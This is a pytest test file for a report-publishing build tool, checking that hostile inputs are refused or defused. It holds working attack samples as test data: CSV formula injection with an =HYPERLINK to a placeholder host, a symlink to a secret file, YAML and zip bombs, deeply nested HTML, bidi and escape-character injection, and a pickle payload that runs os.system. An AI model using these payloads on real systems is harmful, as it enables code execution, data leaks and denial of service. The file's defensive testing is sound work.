"""Hostile input, one test per failure of issue 18: exports safe to open, the source folder a boundary, bounded
work per file, curated values as text, one build at a time, machine failures as messages, a cache of data.

Run them all (about a minute): .venv/bin/python -m pytest tests/test_hostile.py -v
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import frontmatter
import pytest
from hypothesis import given, settings, strategies as st

from build_scripts.render import htmltext
from build_scripts.readers import limits
from build_scripts.write import build_lock

from .conftest import ROOT, make_project

GOOD = ("Le 3 mars 2022, la Direction régionale de la santé de Kara a tenu à Kara sa revue annuelle "
        "des activités de vaccination avec l'appui de l'UNICEF.\n")
OTHER = ("Le 14 juin 2023, le district sanitaire de Dapaong a réuni ses infirmiers chefs de poste pour la revue "
         "semestrielle de la surveillance épidémiologique.\n")
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def src(tmp_path):
    """A source folder with one plain, well-formed report beside whatever a test adds."""
    folder = tmp_path / "src"
    write(folder, "dapaong-revue.txt", OTHER)
    return folder


@pytest.fixture
def build(tmp_path, cli):
    project = make_project(tmp_path / "p")

    def run(source: Path, *extra: str):
        return cli("build", "--source", source, "--docs", project / "docs", *extra)
    run.docs = project / "docs"
    return run


def pages(docs: Path) -> list[frontmatter.Post]:
    return [frontmatter.load(p) for p in sorted((docs / "rapports").glob("*.md")) if p.name != "index.md"]


def page_of(docs: Path, source: str) -> frontmatter.Post:
    return next(p for p in pages(docs) if p["source"] == source)


def no_traceback(result) -> None:
    assert "Traceback" not in result.err + result.out, result.err


# 1. Exports: a formula in a title, an organiser or a recommendation never runs in a spreadsheet.

def test_csv_cells_that_would_start_a_formula_are_neutralised(src, build):
    write(src, "kara.txt", GOOD + "Recommandations :\n- =SOMME(A1:A9) à vérifier chaque mois par le district.\n"
          "- +33 agents de santé à former avant la fin de l'année.\n- @équipe cadre : suivre les stocks.\n")
    write(src, "kara.meta.yml", 'title: \'=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquer")\'\n'
          "organiser: '-2+3'\n")
    result = build(src)
    assert result.code == 0, result.err
    cells = {}
    (statements,) = (build.docs / "lecons").glob("lecons-*.csv")
    catalogue = sorted((build.docs / "catalogue").glob("catalogue-*.csv"))  # a part per year
    for name, paths in (("catalogue.csv", catalogue), ("lecons.csv", [statements])):
        rows = [row for path in paths
                for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";")]
        assert len(rows) > len(paths)
        cells[name] = [cell for row in rows for cell in row]
        bad = [cell for cell in cells[name] if cell.startswith(FORMULA) or cell.startswith("\ufeff=")]
        assert not bad, f"{name}: cells that a spreadsheet would run: {bad}"
    assert '\'=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquer")' in cells["catalogue.csv"]  # shown, not lost
    assert "'-2+3" in cells["catalogue.csv"]
    assert any(c.startswith("'=SOMME(A1:A9)") for c in cells["lecons.csv"]), cells["lecons.csv"]


def test_references_bib_parses_in_strict_bibtex_with_unbalanced_braces_and_specials(src, build):
    pybtex_errors = pytest.importorskip("pybtex.errors")
    from pybtex.database import parse_string
    write(src, "kara.txt", GOOD)
    write(src, "kara.meta.yml", "title: 'Atelier {non fermé sur 100 % des CSPS & #2 \\ fin'\n"
          "organiser: 'Comité } régional_{1}'\n")
    write(src, "bassar.txt", GOOD.replace("Kara", "Bassar"))
    write(src, "bassar.meta.yml", "title: 'Revue @annuelle \"guillemets\" ~ ^'\n")
    assert build(src).code == 0
    pybtex_errors.set_strict_mode(True)
    try:
        parts = [parse_string(p.read_text(encoding="utf-8"), "bibtex")
                 for p in sorted((build.docs / "references").glob("references-*.bib"))]
    finally:
        pybtex_errors.set_strict_mode(False)
    entries = [e for data in parts for e in data.entries.values()]
    assert len(entries) == 3
    titles = [str(e.fields["title"]) for e in entries]
    assert any("textbraceleft" in t and "100 \\% des CSPS \\& \\#2" in t for t in titles), titles
    institutions = [str(e.fields.get("institution", "")) for e in entries]
    assert any("Comité \\textbraceright{} régional\\_\\textbraceleft{}1\\textbraceright{}" in i for i in institutions), \
        institutions  # no field lost
    for entry in entries:
        for value in entry.fields.values():  # each field balanced on its own
            depth = 0
            for ch in str(value):
                depth += {"{": 1, "}": -1}.get(ch, 0)
                assert depth >= 0
            assert depth == 0


# 2. The source folder is a boundary.

def test_a_link_out_of_the_source_folder_is_refused_and_named(tmp_path, src, build):
    secret = write(tmp_path / "ailleurs", "secret.txt", "utilisateur:x:0:0:SECRET-QUI-NE-DOIT-PAS-SORTIR\n" + GOOD)
    (src / "passwd.txt").symlink_to(secret)
    result = build(src)
    assert result.code == 0
    assert f"error: passwd.txt: is a link to {secret.resolve()}, outside the source folder: it is not read" in result.err
    assert "SECRET-QUI-NE-DOIT-PAS-SORTIR" not in "".join(p.read_text(encoding="utf-8")
                                                       for p in build.docs.rglob("*") if p.is_file())
    assert [p["source"] for p in pages(build.docs)] == ["dapaong-revue.txt"]
    assert build(src, "--strict").code == 1


def test_loops_dangling_links_pipes_and_sidecars_without_report_are_named(src, build):
    (src / "boucle-a.txt").symlink_to("boucle-b.txt")
    (src / "boucle-b.txt").symlink_to("boucle-a.txt")
    (src / "perdu.txt").symlink_to("nulle-part.txt")
    os.mkfifo(src / "tube.txt")
    write(src, "orphelin.meta.yml", "title: Rapport disparu\n")
    start = time.monotonic()
    result = build(src)
    assert time.monotonic() - start < 60  # a FIFO opened for reading would wait for ever
    assert result.code == 0
    assert "error: boucle-a.txt: is a link that loops back on itself (-> boucle-b.txt)" in result.err
    assert "error: perdu.txt: is a link to nulle-part.txt, which does not exist" in result.err
    assert "error: tube.txt: is a named pipe (FIFO), not a file: it is not read" in result.err
    assert "warning: orphelin.meta.yml: sidecar without a report" in result.err
    assert [p["source"] for p in pages(build.docs)] == ["dapaong-revue.txt"]


# 3. Odd sidecars never stop the build.

def test_odd_sidecars_are_messages_and_every_report_builds(src, build):
    write(src, "kara.txt", GOOD)
    (src / "kara.meta.yml").symlink_to("absent.meta.yml")  # dangling sidecar link
    write(src, "bassar.txt", GOOD.replace("Kara", "Bassar"))
    write(src, "bassar.meta.yml", "no: 12\n3: trois\ntitle: Revue de Bassar\n")  # a boolean and a number as keys
    write(src, "mango.txt", GOOD.replace("Kara", "Mango"))
    write(src, "mango.meta.yml", "title: Revue\n")
    write(src, "sokode.txt", GOOD.replace("Kara", "Sokodé"))
    write(src, "sokode.meta.yml", "title: Revue\n")
    import hashlib
    taken = "revue-" + hashlib.sha1(b"mango.txt").hexdigest()[:6]  # the de-duplicated page name of mango.txt
    write(src, "tchamba.txt", GOOD.replace("Kara", "Tchamba"))
    write(src, "tchamba.meta.yml", f"title: {taken}\n")
    result = build(src)
    no_traceback(result)
    assert result.code == 0
    assert "error: kara.txt: its sidecar kara.meta.yml is a link to absent.meta.yml, which does not exist" in result.err
    assert "warning: bassar.txt [no]: unknown curated field 'no' in bassar.meta.yml" in result.err
    assert "warning: bassar.txt [3]: unknown curated field '3' in bassar.meta.yml" in result.err
    built = {p["source"]: p for p in pages(build.docs)}
    assert set(built) == {"dapaong-revue.txt", "bassar.txt", "mango.txt", "sokode.txt", "tchamba.txt"}
    assert built["bassar.txt"]["title"] == "Revue de Bassar"
    names = [p.name for p in (build.docs / "rapports").glob("*.md")]
    assert len(names) == len(set(names)) == 6  # five pages and the list, no two at one address


def test_a_billion_laughs_sidecar_is_refused_at_once(src, build):
    laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for n, name in enumerate("bcdefghi"):
        prev = "abcdefghi"[n]
        laughs.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    write(src, "kara.txt", GOOD)
    write(src, "kara.meta.yml", "\n".join(laughs) + "\ntitle: *i\n")
    start = time.monotonic()
    result = build(src)
    assert time.monotonic() - start < 30
    assert ("error: kara.txt: sidecar kara.meta.yml is not valid YAML at line 2: aliases (*name) are not allowed "
            "in curated values") in result.err
    assert [p["source"] for p in pages(build.docs)] == ["dapaong-revue.txt"]


def test_an_impossible_date_is_a_warning_on_its_field_and_the_report_builds(src, build):
    write(src, "kara.txt", GOOD)
    write(src, "kara.meta.yml", "date: 2017-02-30\ntitle: Revue annuelle de Kara\n")
    write(src, "bassar.md", "---\ndate_end: 2022-13-01\n---\n" + GOOD.replace("Kara", "Bassar"))
    result = build(src)
    assert result.code == 0
    assert ("warning: kara.txt [date]: curated date '2017-02-30' is not a real date (day is out of range for month); "
            "the extracted value is used instead — correct 'date' in kara.meta.yml") in result.err
    assert "warning: bassar.md [date_end]: curated date_end '2022-13-01' is not a real date" in result.err
    kara = page_of(build.docs, "kara.txt")
    assert kara["title"] == "Revue annuelle de Kara" and kara["date"] == "2022-03-03"
    assert page_of(build.docs, "bassar.md")["date"] == "2022-03-03"


@pytest.mark.parametrize("sidecar,field,message", [
    ("title: {fr: Revue, en: Review}\n", "title", "must be text or a flat list of texts, found lines nested under it"),
    ("partners: [[UNICEF, OMS]]\n", "partners", "must be text or a flat list of texts"),
    ("summary: 12\n", "summary", "must be text, found 12: put it between quotes"),
    ("title: 2022\n", "title", "must be text, found 2022: put it between quotes"),
])
def test_curated_values_of_the_wrong_type_are_named_with_their_field(src, build, sidecar, field, message):
    write(src, "kara.txt", GOOD)
    write(src, "kara.meta.yml", sidecar)
    result = build(src)
    no_traceback(result)
    assert f"warning: kara.txt [{field}]: curated {field} {message}" in result.err
    assert isinstance(page_of(build.docs, "kara.txt")["title"], str)


# 4. Bounded work per file.

def test_a_word_zip_bomb_is_refused_in_seconds(src, build):
    bomb = src / "bombe.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with z.open("word/document.xml", "w") as f:
            for _ in range(64):
                f.write(b" " * (1024 * 1024))  # 64 MB of spaces: about 64 kB compressed
    start = time.monotonic()
    result = build(src)
    assert time.monotonic() - start < 30
    assert ("error: bombe.docx: Word package part 'word/document.xml' expands 1" in result.err
            and "times its compressed size, over the cap of 200" in result.err), result.err
    assert [p["source"] for p in pages(build.docs)] == ["dapaong-revue.txt"]


def test_a_word_package_over_the_expanded_size_cap_is_refused(src, build, monkeypatch):
    docx = pytest.importorskip("docx")
    document = docx.Document()
    document.add_paragraph(GOOD)
    document.save(src / "gros.docx")
    total = sum(i.file_size for i in zipfile.ZipFile(src / "gros.docx").infolist())
    monkeypatch.setattr(limits, "MAX_EXPANDED_BYTES", total - 1)
    result = build(src)
    assert f"error: gros.docx: Word package expands to {total / 1e3:.0f} kB, over the cap of" in result.err
    monkeypatch.setattr(limits, "MAX_EXPANDED_BYTES", total)
    assert "gros.docx" not in build(src).err  # at the cap, read


def test_a_web_page_with_100000_nested_divs_is_refused_in_seconds(src, build):
    write(src, "profond.html", "<html><body>" + "<div>" * 100_000 + "<p>Texte.</p>" + "</div>" * 100_000
          + "</body></html>")
    write(src, "large.html", "<html><body><article><h1>Revue de Kara</h1>" + ("<div>" * 200 + "<p>" + GOOD + "</p>"
          + "</div>" * 200) * 100 + "</article></body></html>")  # deep, wide, under the cap: read
    start = time.monotonic()
    result = build(src)
    assert time.monotonic() - start < 60
    assert (f"error: profond.html: web page nests its elements more than {limits.MAX_HTML_DEPTH} levels deep, "
            "over the cap") in result.err
    assert {p["source"] for p in pages(build.docs)} == {"dapaong-revue.txt", "large.html"}


def test_a_markdown_line_of_480000_characters_builds_in_seconds(src, build):
    write(src, "etoiles.md", "# Revue des étoiles\n\n" + GOOD + "\n" + "*a " * 160_000 + "\n\n" + "**b " * 20_000 + "\n")
    start = time.monotonic()
    result = build(src)
    assert time.monotonic() - start < 30
    assert result.code == 0, result.err
    page = page_of(build.docs, "etoiles.md")
    assert page.content.count("*a") >= 159_000  # every word is there, shown as written


REGEXES = [(re.compile(r"\*\*\*(?=\S)(.+?)(?<=\S)\*\*\*"), r"<strong><em>\1</em></strong>"),
           (re.compile(r"\*\*(?=\S)(.+?)(?<=\S)\*\*"), r"<strong>\1</strong>"),
           (re.compile(r"\*(?=\S)(.+?)(?<=\S)\*"), r"<em>\1</em>")]


@given(st.text(alphabet="* a\n\u00a0\tb", max_size=30))
@settings(max_examples=3000, deadline=None)
def test_linear_emphasis_gives_what_the_markdown_patterns_give(text):
    expected = actual = text
    for (pattern, replacement), (marker, before, after) in zip(REGEXES, htmltext.EMPHASES):
        expected = pattern.sub(replacement, expected)
        actual = htmltext.emphasise(actual, marker, before, after)
    assert actual == expected


@given(st.text(alphabet="* a_`\\", min_size=1, max_size=6), st.integers(min_value=50_000, max_value=100_000))
@settings(max_examples=15, deadline=None)
def test_long_adversarial_lines_convert_in_linear_time(chunk, repeat):
    line = (chunk * repeat)[:500_000]
    start = time.monotonic()
    out = htmltext.Inline()(line, emphasis=True)
    assert time.monotonic() - start < 5
    shown = re.sub(r"</?(?:em|strong)>", "", out)
    assert shown.replace("*", "") == line.replace("*", "")  # every other character shown as written, in order


# 5. Curated values are text.

def test_control_and_direction_characters_never_reach_pages_exports_or_terminal(src, build):
    write(src, "kara.txt", GOOD)
    write(src, "kara.meta.yml", 'title: "Atelier \\u202e2016 erbmetpes\\u202c \\e[31mrouge\\0 de Kara"\n'
          'organiser: "Direction \\u2066régionale\\u2069 \\x85de Kara"\n')
    write(src, "nom\nerror: faux.txt", "")
    result = build(src)
    assert result.code == 0
    bad = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
    for path in build.docs.rglob("*"):
        if path.is_file() and path.suffix in (".md", ".csv", ".ris", ".bib", ".json", ".xml", ".html"):
            found = bad.search(path.read_text(encoding="utf-8"))
            assert found is None, f"{path.name} holds {found.group(0)!r}"
    assert page_of(build.docs, "kara.txt")["title"] == "Atelier 2016 erbmetpes [31mrouge de Kara"
    assert not any(line.startswith("error: faux.txt") for line in result.err.splitlines())
    assert "error: nom\\nerror: faux.txt: file is empty (0 bytes)" in result.err


# 6. One build at a time; stale temporaries removed.

def test_a_second_build_into_a_locked_folder_is_refused(src, build):
    build.docs.mkdir(parents=True, exist_ok=True)
    with build_lock(build.docs):
        result = build(src)
    assert result.code == 4
    assert f"error: another build is running in {build.docs} — wait for it to end, then build again" in result.err
    assert not (build.docs / "rapports").exists()
    assert build(src).code == 0  # the lock goes with the build that held it


def test_two_builds_of_different_corpora_started_together_leave_no_orphan(tmp_path):
    project = make_project(tmp_path / "p")
    corpora = []
    for n, town in enumerate(["Kara", "Bassar"]):
        folder = tmp_path / f"src{n}"
        for i in range(40):
            write(folder, f"{town.lower()}-{i:02d}.txt", f"REVUE NUMÉRO {i} DE {town.upper()}\n"
                  + GOOD.replace("Kara", town).replace("3 mars", f"{i % 27 + 1} mars"))
        corpora.append(folder)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    procs = [subprocess.Popen([sys.executable, "-m", "build_scripts", "build", "--jobs", "1", "--source", str(folder),
                               "--docs", str(project / "docs")], cwd=ROOT, env=env, text=True,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE) for folder in corpora]
    results = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
    assert sorted(code for code, _ in results)[0] == 0
    for code, err in results:
        assert code == 0 or (code == 4 and "another build is running in" in err), err
    manifest = json.loads((project / "docs" / ".generes.json").read_text(encoding="utf-8"))
    on_disk = {p.relative_to(project / "docs").as_posix() for p in (project / "docs" / "rapports").glob("*.md")}
    assert on_disk == {rel for rel in manifest if rel.startswith("rapports/")}
    sources = {frontmatter.load(project / "docs" / rel)["source"][:4] for rel in on_disk if not rel.endswith("index.md")}
    assert len(sources) == 1  # one corpus' pages, not a mix


def test_stale_temporary_files_of_an_interrupted_build_are_removed_at_the_start(src, build, monkeypatch):
    from build_scripts import write as writer
    assert build(src).code == 0
    write(src, "kara.txt", GOOD)

    def killed(path, content):  # the machine stops while the page is half written, before the rename
        Path(str(path.parent / ".tmp-ab12cd34") + path.suffix).write_text(content[:10], encoding="utf-8")
        raise KeyboardInterrupt
    monkeypatch.setattr(writer, "atomic_write", killed)
    with pytest.raises(KeyboardInterrupt):
        build(src)
    monkeypatch.undo()
    stale = list(build.docs.rglob(".tmp-*"))
    cache_stale = build.docs.parent / ".cache" / "kb" / ".tmp-zz99yy88"
    cache_stale.write_bytes(b"{")
    assert stale  # a half-written page is there
    assert build(src).code == 0
    assert not list(build.docs.rglob(".tmp-*")) and not cache_stale.exists()
    assert not (build.docs / writer.IN_PROGRESS).exists()


# 7. Failures of the machine are messages.

def test_a_folder_where_a_page_goes_is_named_and_the_rest_is_written(src, build):
    (build.docs / "catalogue" / "index.json").mkdir(parents=True)
    result = build(src)
    no_traceback(result)
    assert f"error: {build.docs / 'catalogue' / 'index.json'}: a hand-written folder is in the way" in result.err
    assert (build.docs / "references" / "index.json").is_file() and len(pages(build.docs)) == 1


def test_a_file_where_a_folder_goes_is_one_error_line_after_the_problems_found(src, build):
    write(src, "vide.txt", "")
    (build.docs / "rapports").write_text("un fichier, pas un dossier", encoding="utf-8")
    result = build(src)
    no_traceback(result)
    assert result.code == 3
    lines = result.err.strip().splitlines()
    assert lines[0].startswith("error: vide.txt: file is empty")
    assert re.match(rf"error: {re.escape(str(build.docs / 'rapports'))}.* — a file stands where a folder goes", lines[-1])


@pytest.fixture
def tiny_mount(tmp_path):
    """A real 300 kB tmpfs (root only: skipped elsewhere), unmounted afterwards."""
    point = tmp_path / "petit"
    point.mkdir()
    if os.geteuid() != 0 or subprocess.run(["mount", "-t", "tmpfs", "-o", "size=300k", "tmpfs", str(point)],
                                           capture_output=True).returncode != 0:
        pytest.skip("mounting a small file system needs root")
    yield point
    subprocess.run(["umount", "-l", str(point)], check=False)


def test_a_full_disk_is_one_error_line(src, cli, tiny_mount):
    write(src, "kara.txt", GOOD * 400)
    result = cli("build", "--source", src, "--docs", tiny_mount / "docs", "--cache", tiny_mount / "cache")
    no_traceback(result)
    assert result.code == 3
    assert re.search(r"^error: .*No space left on device — the disk is full: free some space", result.err, re.M)


def test_a_read_only_folder_is_one_error_line(src, cli, tiny_mount, tmp_path):
    (tiny_mount / "docs").mkdir()
    subprocess.run(["mount", "-o", "remount,ro", str(tiny_mount)], check=True)
    result = cli("build", "--source", src, "--docs", tiny_mount / "docs", "--cache", tmp_path / "cache")
    no_traceback(result)
    assert result.code == 3
    assert re.search(r"^error: .*Read-only file system — the folder is on a read-only disk", result.err, re.M)


# 8. The cache: with the project, data not code.

def test_the_cache_is_never_beside_an_arbitrary_docs_folder_and_holds_no_pickle(tmp_path, src, cli, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    shared = tmp_path / "partage"
    planted = shared / ".cache" / "kb"
    planted.mkdir(parents=True)
    marker = tmp_path / "code-execute"
    import pickle

    class Exploit:
        def __reduce__(self):
            return (os.system, (f"touch {marker}",))
    from build_scripts.incremental import code_version
    for name in (f"sources-{code_version()}.pickle", f"extraction-{code_version()}/0"):
        (planted / name).parent.mkdir(parents=True, exist_ok=True)
        (planted / name).write_bytes(pickle.dumps(Exploit()))
    before = sorted(p for p in (shared / ".cache").rglob("*"))
    for _ in range(2):
        assert cli("build", "--source", src, "--docs", shared / "docs").code == 0
    assert not marker.exists()
    assert sorted(p for p in (shared / ".cache").rglob("*")) == before  # nothing read or written beside --docs
    cache = tmp_path / "xdg" / "base-de-connaissances"
    files = [p for p in cache.rglob("*") if p.is_file()]
    assert files
    for path in files:
        json.loads(path.read_bytes())  # every cache file is JSON data


def test_a_cache_folder_others_can_write_is_not_used(tmp_path, src, cli):
    cache = tmp_path / "cache-partage"
    cache.mkdir()
    cache.chmod(0o777)
    result = cli("build", "--source", src, "--docs", tmp_path / "d", "--cache", cache)
    assert result.code == 0
    assert f"warning: the cache folder {cache} is not used: {cache} can be written by other users" in result.err
    assert not any(cache.iterdir())


def test_a_folder_where_a_generated_page_was_is_named_and_left_alone(src, build):
    assert build(src).code == 0
    index = build.docs / "catalogue" / "index.json"
    index.unlink()
    index.mkdir()
    (index / "note.txt").write_text("à garder", encoding="utf-8")
    result = build(src)
    no_traceback(result)
    assert f"error: {index}: a hand-written folder is in the way" in result.err
    assert (index / "note.txt").read_text(encoding="utf-8") == "à garder"
